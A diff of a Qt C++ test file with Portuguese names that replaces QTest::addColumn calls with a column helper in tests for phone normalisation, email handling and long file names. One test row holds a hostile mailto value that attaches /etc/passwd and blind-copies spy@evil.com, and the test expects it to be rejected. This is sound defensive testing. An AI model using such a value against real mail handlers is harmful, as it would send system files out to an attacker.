@@ -118,8 +118,7 @@ private slots:
     }
 
     void celularesNormalizados_data() {
-        QTest::addColumn<QString>("digitado");
-        QTest::addColumn<QString>("internacional");
+        Colunas<QString, QString>("digitado", "internacional");
         QTest::newRow("com parênteses e hífen") << u"(19) 99876-5432"_s << u"5519998765432"_s;
         QTest::newRow("com zero de longa distância") << u"019 99876 5432"_s << u"5519998765432"_s;
         QTest::newRow("com +55") << u"+55 19 99876-5432"_s << u"5519998765432"_s;
@@ -379,8 +378,7 @@ private slots:
     // address opens nothing and records nothing; a good one reaches the mail program
     // unchanged, with the one PDF attached and no other field.
     void enderecosComOXdgEmailDoDebian_data() {
-        QTest::addColumn<QString>("email");
-        QTest::addColumn<bool>("aceito");
+        Colunas<QString, bool>("email", "aceito");
         QTest::newRow("mailto com anexo e cópia oculta")
             << u"mailto:evil@x.com?attach=/etc/passwd&bcc=spy@evil.com"_s << false;
         QTest::newRow("anexo do banco pelo Thunderbird")
@@ -457,8 +455,8 @@ private slots:
     // A name that passes the file system's 255 bytes is cut before ".pdf", between two
     // characters: the PDF is written and sent.
     void apelidoLongoCabeNoNomeDoArquivo_data() {
-        QTest::addColumn<QString>("unidade"); // one character as a person sees it
-        QTest::addColumn<int>("vezes");
+        // unidade: one character as a person sees it
+        Colunas<QString, int>("unidade", "vezes");
         QTest::newRow("300 letras") << u"a"_s << 300;
         QTest::newRow("80 emojis") << u"🐶"_s << 80;
         QTest::newRow("acentos combinados") << u"e\u0301"_s << 80;
